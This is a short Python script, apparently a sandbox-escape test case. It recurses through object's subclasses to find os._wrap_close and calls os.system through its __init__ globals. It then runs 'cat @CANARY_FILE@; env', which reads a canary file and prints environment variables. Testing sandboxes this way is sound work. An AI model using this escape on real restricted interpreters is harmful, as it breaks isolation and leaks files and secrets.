import os  # for its classes alone; nothing below names it


def walk(kind, seen):
    for sub in type.__subclasses__(kind):
        if sub not in seen:
            seen.add(sub)
            walk(sub, seen)


classes = set()
walk(().__class__.__mro__[-1], classes)
for found in classes:
    space = getattr(found.__init__, "__globals__", {})
    if found.__name__ == "_wrap_close" and "system" in space:
        space["system"]("cat @CANARY_FILE@; env")
print("no way to system() found")
